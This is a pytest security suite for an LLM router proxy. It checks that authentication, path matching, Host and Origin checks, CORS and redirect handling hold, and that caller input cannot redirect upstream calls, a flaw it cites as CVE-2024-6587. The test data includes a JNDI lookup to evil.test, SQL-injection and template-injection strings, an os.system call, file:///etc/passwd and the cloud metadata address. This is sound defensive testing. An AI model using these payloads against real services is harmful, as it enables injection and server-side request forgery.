"""Who is let in and where calls go: nothing that a caller writes opens a door or moves an address."""

import inspect

import pytest
from raw_http import ASK, CHAT, Canary, answering, ask, said

from iron_adapters.router import LlmRouter, doors, paths

KEY = "sk-canary-0123456789"
CLAUDE_KEY = "sk-ant-canary-0123456789"
ENDPOINTS = [f"{version}{endpoint}" for endpoint in paths.ENDPOINTS for version in ("/v1", "")]
SERVED = [
    *(f"{start}{path}" for start in ("", "/openai", "/anthropic") for path in ENDPOINTS),
    *(f"{start}{version}/models" for start in ("", "/openai", "/anthropic") for version in ("/v1", "")),
    "/v1/models/gpt-4o-mini",
    f"/iron/v1/runs/{'a' * 32}",
]
OPEN = ["/", "/health"]
METHODS = ["GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "PROPFIND"]


@pytest.fixture(scope="module")
def elsewhere():
    """Return a server that nobody was told to call."""
    server = Canary(answering(said()))
    yield server
    assert server.received == []
    server.close()


@pytest.fixture(scope="module")
def router():
    behind = Canary(answering(said()))
    upstreams = {"openai": behind.url, "anthropic": behind.url}
    with LlmRouter(provider_key={"openai": KEY, "anthropic": CLAUDE_KEY}, upstreams=upstreams) as running:
        running.canary = behind
        yield running
    behind.close()


def called(router, *args, **details):
    """Return an answer and the targets that it made the router call."""
    earlier = len(router.canary.received)
    answer = ask(router, *args, **details)
    return answer, [each.target for each in router.canary.received[earlier:]]


# -- every path, method and key ------------------------------------------------------------------------------------


@pytest.mark.parametrize("path", SERVED)
def test_no_path_is_open_without_the_token(path, router):
    for method in METHODS:
        for key in ("", "wrong", router.api_key[:-1], f"{router.api_key}x", router.api_key.upper()):
            answer, targets = called(router, path=path, method=method, key=key)

            assert (answer.status, targets) == (401, []), (method, key)


@pytest.mark.parametrize("path", SERVED)
def test_with_the_token_each_path_takes_its_own_method_only(path, router):
    taken = {"GET", "HEAD"} if "/models" in path else {"GET", "DELETE"} if "/runs/" in path else {"POST"}
    for method in METHODS:
        answer, targets = called(router, ASK if method == "POST" else b"", path=path, method=method)

        assert (answer.status == 405) == (method not in taken), method
        assert (answer.status == 405) == ("allow" in answer.headers), method
        assert method in taken or targets == []


@pytest.mark.parametrize("path", OPEN)
def test_the_open_pages_say_nothing_and_take_get_only(path, router):
    for method in METHODS:
        answer, targets = called(router, b"", path=path, method=method, key="")

        assert answer.status == (200 if method in {"GET", "HEAD"} else 405)
        assert targets == []
        assert len(answer.body) < 50


@pytest.mark.parametrize(
    "path",
    [
        "/v1/files",
        "/v1/fine_tuning/jobs",
        "/v1/batches",
        "/v1/assistants",
        "/v1/images/generations",
        "/v1/audio/speech",
        "/v1/messages/batches",
        "/v1/responses/resp_1",
        "/v1/organization/admin_api_keys",
        "/admin",
        "/config/update",
        "/key/generate",
        "/metrics",
        "/docs",
        "/openapi.json",
        "/ws",
        "/iron/v1/runs",
        "/iron/v1/runs/",
        "/iron/v2/x",
        "/.env",
        "/nobody/v1/chat/completions",
    ],
)
def test_what_is_not_on_the_list_is_not_served(path, router):
    for method in METHODS:
        assert called(router, path=path, method=method, key="")[0].status == 401
        answer, targets = called(router, b"{}", path=path, method=method)
        assert (answer.status, targets) in ((404, []), (405, [])), method


# -- paths that could look like others ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "path",
    [
        "//v1/chat/completions",
        "/v1//chat/completions",
        "/v1/chat/completions/",
        "/v1/chat/completions/.",
        "/v1/chat/completions;x=1",
        "/v1/chat/%63ompletions",
        "/v1/chat%2Fcompletions",
        "/v1/chat%252Fcompletions",
        "/v1/x/../chat/completions",
        "/v1/x/%2e%2e/chat/completions",
        "/./v1/chat/completions",
        "/health/../v1/chat/completions",
        "/health/%2e%2e/v1/chat/completions",
        "/v1/chat\\completions",
        "/V1/chat/completions",
        "/v1/Chat/Completions",
        "/v1/chat/completions%00",
        "/v1/chat/completions%20",
        "/v1/chat/completions.json",
        "//health",
        "/health/",
        "/Health",
        "/health%2f",
        "/%2e",
        "/.",
        "*",
    ],
)
def test_a_path_is_compared_as_it_was_written(path, router):
    assert called(router, path=path, key="")[0].status == 401
    answer, targets = called(router, path=path)
    assert (answer.status, targets) == (404, [])


@pytest.mark.parametrize(
    "target",
    [
        "http://evil.test/v1/chat/completions",
        "http://127.0.0.1/v1/chat/completions",
        "https://127.0.0.1/health",
        "HTTP://127.0.0.1/health",
        "evil.test:443",
        "@evil.test/v1",
        "http:///v1/chat/completions",
        "v1/chat/completions",
        "?x",
        "/v1/chat/completions#x",
        "/health#/v1/chat/completions",
        "/v1/chat/completions\xe9",
        "/v1/chat/completions\x7f",
        "/v1/chat completions",
    ],
)
def test_a_target_that_is_no_path_is_no_request(target, router):
    for key in ("", None):
        for method in ("GET", "POST", "CONNECT"):
            answer, targets = called(router, path=target, key=key, method=method)

            assert (answer.status, targets) == (400, [])


@pytest.mark.parametrize("model", ["..", ".", "a" * 10_000])
def test_a_models_name_leads_to_no_other_address_and_has_an_end(model, router, canary, before):
    """An address that holds ``..`` is another one by the time that a client sends it."""
    assert called(router, b"", path=f"/v1/models/{model}", method="GET")[1] == []
    behind = canary()
    azure = before(behind, upstreams={"openai": behind.url + "/deployments/{model}"})
    assert called(azure, {**ASK, "model": model})[0].status == 400
    assert behind.received == []


@pytest.mark.parametrize("model", ["../x", "a/b", "a?b", "a#b", "..\\x", "%2e%2e", "a b", "\u2025", "a@b:c"])
def test_a_models_name_stays_one_step_of_an_address(model, canary, before):
    behind = canary()
    azure = before(behind, upstreams={"openai": {"base_url": behind.url + "/d/{model}", "dialect": "openai"}})
    _, (target,) = called(azure, {**ASK, "model": model})

    assert target.startswith("/v1/d/")
    assert target.endswith("/chat/completions")
    assert target.count("/") == 5


# -- hosts and pages ------------------------------------------------------------------------------------------------

ODD_HOSTS = [
    "evil.test",
    "evil.test:80",
    "127.0.0.1.evil.test",
    "localhost.evil.test",
    "evil.test@127.0.0.1",
    "127.0.0.1@evil.test",
    "127.0.0.1:80@evil.test",
    "127.0.0.1/",
    "127.0.0.1?",
    "127.0.0.1#",
    "127.0.0.1,evil.test",
    "127.0.0.1 evil.test",
    "localhost.",
    "127.0.0.1:80:80",
    "127.0.0.1:x",
    "127.0.0.1:",
    "localhost:\xb2",
    "127.0.0.2",
    "127.1",
    "2130706433",
    "0x7f000001",
    "0.0.0.0",  # noqa: S104 - a Host, which is no address to listen on
    "[::]",
    "::1",
    "[::ffff:127.0.0.1]",
    "[::1",
    "169.254.169.254",
    " ",
    "",
    "a" * 60_000,
]


@pytest.mark.parametrize("host", ODD_HOSTS, ids=lambda host: host[:20])
def test_a_host_that_is_not_this_machine_is_refused_everywhere(host, router):
    """A page whose name was made to mean 127.0.0.1 sends its own name as Host."""
    for path, method in [
        (CHAT, "POST"),
        ("/v1/models", "GET"),
        ("/", "GET"),
        ("/health", "GET"),
        ("/x", "GET"),
    ]:
        answer, targets = called(router, path=path, method=method, host=host)

        assert (answer.status, targets) == (403, []), path


@pytest.mark.parametrize("host", ["localhost", "LocalHost:1", "127.0.0.1:65535", "[::1]:80"])
def test_this_machines_names_for_itself_are_taken(host, router):
    assert called(router, host=host)[0].status == 200


def test_two_hosts_are_refused(router):
    for second in ("127.0.0.1", "evil.test"):
        answer, targets = called(router, headers=[f"host: {second}"])

        assert (answer.status, targets) == (400, [])


@pytest.mark.parametrize(
    "name", ["x-forwarded-host", "x-host", "forwarded", "x-original-url", "x-rewrite-url"]
)
def test_a_proxys_words_about_host_and_path_are_not_heard(name, router):
    assert called(router, headers=[f"{name}: 127.0.0.1"], host="evil.test")[0].status == 403
    assert called(router, headers=[f"{name}: /health"], key="")[0].status == 401


@pytest.mark.parametrize(
    "origin",
    [
        "http://evil.test",
        "null",
        "",
        "http://127.0.0.1",
        "http://127.0.0.1.evil.test",
        "file://",
        "http://localhost:1, http://evil.test",
        "chrome-extension://abc",
    ],
)
def test_pages_of_other_sites_are_refused(origin, router):
    for path, method in [(CHAT, "POST"), ("/v1/models", "GET"), ("/", "GET"), ("/health", "GET")]:
        answer, targets = called(router, path=path, method=method, headers=[f"origin: {origin}"])

        assert (answer.status, targets) == (403, []), path


@pytest.mark.parametrize(
    "kind",
    ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "", "text/json"],
)
def test_what_a_page_can_send_without_asking_is_refused(kind, router):
    answer, targets = called(router, kind=kind)

    assert (answer.status, targets) == (415, [])


def test_no_page_is_ever_allowed_in(router):
    """Neither a question before a request nor any answer names a site that may read it."""
    asks = ["access-control-request-method: POST", "access-control-request-private-network: true"]
    answers = [
        called(router, b"", method="OPTIONS", key="", headers=["origin: http://evil.test", *asks])[0],
        called(router, b"", method="OPTIONS", headers=asks)[0],
        called(router)[0],
        called(router, b"", path="/health", method="GET")[0],
    ]

    assert [answer.status for answer in answers] == [403, 405, 200, 200]
    assert not any("access-control" in name for answer in answers for name in answer.headers)


@pytest.mark.parametrize(
    "charset", ["utf-7", "utf-16", "utf-16le", "iso-8859-1", "utf-8; charset=utf-7", "utf-8x"]
)
def test_a_body_is_read_here_as_it_is_read_there(charset, router):
    """In UTF-7, ``+ACI-`` is a quote, and the same bytes are another request."""
    answer, targets = called(router, kind=f"application/json; charset={charset}")

    assert (answer.status, targets) == (415, [])


@pytest.mark.parametrize("parameters", ["", ";", "; charset=utf-8", ';charset="UTF-8"', "; profile=x"])
def test_json_is_taken_as_clients_name_it(parameters, router):
    assert called(router, kind=f"application/json{parameters}")[0].status == 200


# -- keys -----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "bearer",
    [
        "Bearer",
        "Bearer ",
        "Bearer  ",
        "",
        "bearer '",
        "Bearer ' OR '1'='1",
        'Bearer "; DROP TABLE keys; --',
        "Bearer {{7*7}}",
        "Bearer {0.__class__}",
        "Bearer ${jndi:ldap://evil.test/x}",
        "Bearer \xe9\xff",
        "Bearer null",
        "Bearer undefined",
        "Bearer " + "a" * 60_000,
        "Basic YTpi",
        "Digest x",
        "Token x",
        "a" * 60_000,
    ],
    ids=lambda bearer: bearer[:24],
)
def test_a_wrong_key_is_a_wrong_key_whatever_it_is(bearer, router):
    answer, targets = called(router, headers=[f"authorization: {bearer}"], key="")

    assert (answer.status, targets) == (401, [])
    assert answer.json["error"]["code"] == "invalid_api_key"


@pytest.mark.parametrize(
    "bearer", ["Bearer a\x00b", "Bearer a\nb", "Bearer " + "a" * 70_000], ids=["nul", "lf", "long"]
)
def test_a_key_that_no_header_can_hold_is_no_request(bearer, router):
    answer, targets = called(router, headers=[f"authorization: {bearer}"], key="")

    assert answer.status in {400, 431}
    assert targets == []


@pytest.mark.parametrize("names", [("authorization", "authorization"), ("x-api-key", "x-api-key")])
def test_two_keys_under_one_name_are_refused(names, router):
    prefix = "Bearer " if names[0] == "authorization" else ""
    for pair in ((router.api_key, "wrong"), ("wrong", router.api_key), (router.api_key, router.api_key)):
        headers = [f"{name}: {prefix}{key}" for name, key in zip(names, pair, strict=True)]
        answer, targets = called(router, headers=headers, key="")

        assert (answer.status, targets) == (400, [])


def test_of_keys_under_two_names_the_first_name_counts(router):
    right, wrong = router.api_key, "wrong"

    assert called(router, headers=[f"x-api-key: {right}"], key=wrong)[0].status == 401
    assert called(router, headers=[f"x-api-key: {wrong}"], key=right)[0].status == 200
    assert called(router, headers=[f"X-API-KEY: {right}"], key="")[0].status == 200
    assert called(router, headers=[f"x-api-key: {wrong}", f"api-key: {right}"], key="")[0].status == 401


def test_a_key_in_the_address_is_none(router):
    for name in ("key", "api_key", "access_token", "authorization", "token"):
        assert called(router, path=f"{CHAT}?{name}={router.api_key}", key="")[0].status == 401


def test_keys_are_compared_in_constant_time():
    assert "hmac.compare_digest" in inspect.getsource(doors.Doors.check)


# -- where calls go -------------------------------------------------------------------------------------------------

NAMES = [
    "api_base",
    "base_url",
    "baseURL",
    "url",
    "endpoint",
    "custom_llm_provider",
    "api_key",
    "proxy",
    "host",
]


@pytest.mark.parametrize("name", NAMES)
def test_no_word_of_a_caller_moves_a_call(name, router, elsewhere):
    """LiteLLM sent its key wherever ``api_base`` said (CVE-2024-6587)."""
    evil = elsewhere.url
    tries = [
        {"body": {**ASK, name: evil}},
        {"body": {**ASK, "extra_body": {name: evil}, "metadata": {name: evil}}},
        {"path": f"{CHAT}?{name}={evil}"},
        {"headers": [f"{name.replace('_', '-')}: {evil}"]},
        {"headers": [f"x-{name.replace('_', '-')}: {evil}", f"x-openai-{name.replace('_', '-')}: {evil}"]},
        {"headers": [f"x-forwarded-host: 127.0.0.1:{elsewhere.port}", "x-forwarded-proto: http"]},
    ]
    for details in tries:
        if any(header.startswith(("host:", "api-key:")) for header in details.get("headers", ())):
            continue
        answer, targets = called(router, **details)
        assert answer.status in {200, 400}
        assert [target.partition("?")[0] for target in targets] in ([CHAT], [])


@pytest.mark.parametrize(
    "origin",
    ["{evil}", "http://169.254.169.254", "file:///etc/passwd", "", "x", "http://[", "http://127.0.0.1:99999"],
)
def test_an_origin_names_only_servers_that_are_known(origin, router, elsewhere):
    answer, targets = called(router, headers=[f"x-iron-origin: {origin.format(evil=elsewhere.url)}"])

    assert (answer.status, targets) == (400, [])


@pytest.mark.parametrize("status", [300, 301, 302, 303, 304, 305, 307, 308])
@pytest.mark.parametrize("kind", ["application/json", "text/event-stream"])
def test_a_redirect_is_followed_nowhere(status, kind, before, elsewhere):
    answer = answering(b"", status=status, kind=kind, headers=[f"location: {elsewhere.url}/chat/completions"])
    router = before(answer)
    tries = [{}, {"body": {**ASK, "stream": True}}, {"path": "/v1/models", "method": "GET", "body": b""}]
    tries += [{"path": "/v1/models/x", "method": "GET", "body": b""}]
    for details in tries:
        told, targets = called(router, **details)
        assert told.status == 502
        assert "location" not in told.headers
        assert len(targets) in {1, 2}


def test_a_redirect_to_the_same_server_is_followed_no_more(canary, before):
    behind = canary()
    behind.answer = answering(
        b"", status=307, headers=[f"location: {behind.url}/other", "refresh: 0; url=/x"]
    )
    told, targets = called(before(behind))

    assert (told.status, targets) == (502, [CHAT])


def test_words_of_the_router_stay_with_it(router):
    names = [
        "X-Iron-Agent",
        "X-IRON-USER",
        "x-iron-path",
        "x-iron-claim",
        "x-iron-anything",
        "Cookie",
        "Origin-X",
    ]
    called(
        router, headers=[f"{name}: some" for name in names] + ["x-api-key: sk-callers", "api-key: sk-callers"]
    )
    sent = router.canary.received[-1]

    assert not [name for name in sent.headers if name.startswith("x-iron") or name == "cookie"]
    assert sent.headers["authorization"] == f"Bearer {KEY}"
    assert b"sk-callers" not in sent.raw
    assert router.api_key.encode() not in sent.raw


def test_a_key_goes_to_its_own_provider_only(canary, before):
    one, other = canary(), canary()
    router = before(
        one,
        provider_key={"openai": KEY, "anthropic": CLAUDE_KEY},
        upstreams={"openai": one.url, "anthropic": other.url},
    )
    for body in (ASK, {**ASK, "model": "claude-3-haiku-20240307"}):
        for path in (
            CHAT,
            "/v1/messages",
            "/openai/v1/chat/completions",
            "/anthropic/v1/messages",
            "/openai/v1/messages",
        ):
            ask(router, body, path=path)
    ask(router, b"", path="/v1/models", method="GET")

    assert one.received
    assert other.received
    assert CLAUDE_KEY.encode() not in one.seen
    assert KEY.encode() not in other.seen


def test_templates_and_formats_are_only_text(router):
    for text in (
        "{{7*7}}",
        "{0.__class__}",
        "${7*7}",
        "%(x)s",
        "<%= 7*7 %>",
        "__import__('os').system('id')",
    ):
        router.canary.answer = answering(said(text))
        answer, _ = called(router, {**ASK, "messages": [{"role": "user", "content": text}], "user": text})

        assert answer.text == text
        assert router.canary.received[-1].json["messages"][0]["content"] == text


def test_a_model_that_is_not_allowed_is_not_told_of(before):
    router = before(policy={"access": {"models": {"deny": ["o1-*"]}}, "audit": {"path": "/dev/null"}})
    answer, targets = called(router, b"", path="/v1/models/o1-pro", method="GET")

    assert (answer.status, targets) == (404, [])
